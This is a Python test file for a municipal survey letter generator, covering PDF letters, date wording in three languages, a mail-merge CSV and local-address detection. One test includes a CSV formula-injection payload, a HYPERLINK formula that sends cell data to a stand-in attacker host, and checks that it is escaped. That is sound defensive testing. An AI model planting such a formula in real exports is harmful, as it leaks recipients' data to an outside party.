"""Letters and the mail-merge file."""

import csv
import io
from datetime import datetime

import pytest

from collector import letters
from tests.collector import pdftext

INFO = letters.LetterInfo(
    sender="Eksempel kommune",
    title={"nb": "Brukerundersøkelse – hjemmetjenesten", "en": "User survey"},
    address="https://helhet.eksempel.no/svar",
    closes_at=datetime(2026, 3, 31, 22, 0),
)
ISSUED = [
    letters.IssuedCode("K7MQ2XH9TD", "4699-helse-hjemme", "Hjemmetjenesten"),
    letters.IssuedCode("ABCDEFGHJK", "4699-helse-hjemme", "Hjemmetjenesten"),
]


def test_the_letters_have_one_page_per_code_with_the_address_and_the_code(app):
    pdf = letters.pdf_bytes(ISSUED, INFO, "nb")
    assert pdf.startswith(b"%PDF")
    assert pdftext.page_count(pdf) == 2
    text = pdftext.text(pdf)
    assert "K7MQ2-XH9TD" in text and "ABCDE-FGHJK" in text
    assert "https://helhet.eksempel.no/svar" in text
    # closes 01.04.2026 00:00 in Norway: open through 31 March, said as people read it
    assert "åpen til og med 31.03.2026" in text
    assert "01.04.2026" not in text and "00:00" not in text


@pytest.mark.parametrize(
    ("lang", "phrase"),
    [
        ("nn", "open til og med 31.03.2026"),
        ("en", "open until and including 31 March 2026"),
    ],
)
def test_letters_say_the_last_day_in_their_language(app, lang, phrase):
    assert phrase in pdftext.text(letters.pdf_bytes(ISSUED[:1], INFO, lang))


def test_a_letter_for_a_round_closing_in_the_afternoon_says_the_time(app):
    info = letters.LetterInfo(**{**INFO.__dict__, "closes_at": datetime(2026, 6, 30, 12, 0)})
    assert "åpen til 30.06.2026 kl. 14:00" in pdftext.text(letters.pdf_bytes(ISSUED[:1], info))


def test_letters_print_norwegian_letters(app):
    text = pdftext.text(letters.pdf_bytes(ISSUED[:1], INFO, "nb"))
    assert "Brukerundersøkelse - hjemmetjenesten".encode("latin-1").decode("latin-1") in text


def test_text_outside_latin_1_does_not_break_the_letters():
    assert letters.latin1("«Trivsel» – 2026 ✓") == "«Trivsel» - 2026 ?"


def test_the_mail_merge_file_has_one_row_per_code(app):
    rows = list(
        csv.DictReader(
            io.StringIO(letters.csv_bytes(ISSUED, INFO).decode("utf-8-sig")), delimiter=";"
        )
    )
    assert [r["code"] for r in rows] == ["K7MQ2-XH9TD", "ABCDE-FGHJK"]
    assert rows[0]["unit_name"] == "Hjemmetjenesten"
    assert rows[0]["link"] == "https://helhet.eksempel.no/k/K7MQ2XH9TD"  # the personal link
    assert rows[0]["last_day"] == "31.03.2026" and rows[0]["open_until"] == "til og med 31.03.2026"


def test_the_mail_merge_file_says_the_closing_time_in_the_letter_language(app):
    body = letters.csv_bytes(ISSUED, INFO, "en").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body), delimiter=";"))
    assert rows[0]["open_until"] == "until and including 31 March 2026"
    assert "00:00" not in body and "01.04.2026" not in body


def test_a_unit_named_like_a_formula_is_text_in_the_mail_merge_file(app):
    name = '=HYPERLINK("https://evil.example/?"&A2;"Klikk her")'
    issued = [letters.IssuedCode("K7MQ2XH9TD", "4699-helse-hjemme", name)]
    rows = list(
        csv.DictReader(
            io.StringIO(letters.csv_bytes(issued, INFO).decode("utf-8-sig")), delimiter=";"
        )
    )
    assert rows[0]["unit_name"] == "'" + name


@pytest.mark.parametrize(
    "address",
    [
        "http://127.0.0.1:5000/svar",
        "http://127.8.0.1/svar",
        "http://[::1]:5000/svar",
        "http://localhost:5000/svar",
        "http://LocalHost./svar",
        "http://helhet.localhost/svar",
        "http://0.0.0.0:8000/svar",
        "http://[::ffff:127.0.0.1]/svar",
        "127.0.0.1:5000/svar",
    ],
)
def test_an_address_on_this_computer_is_recognised(address):
    assert letters.only_this_computer(address)


@pytest.mark.parametrize(
    "address",
    [
        "https://svar.kommune.no/svar",
        "http://10.0.0.5/svar",
        "https://localhost.kommune.no/svar",
        "http://[2001:db8::1]/svar",
    ],
)
def test_a_public_or_network_address_is_not_this_computer(address):
    assert not letters.only_this_computer(address)
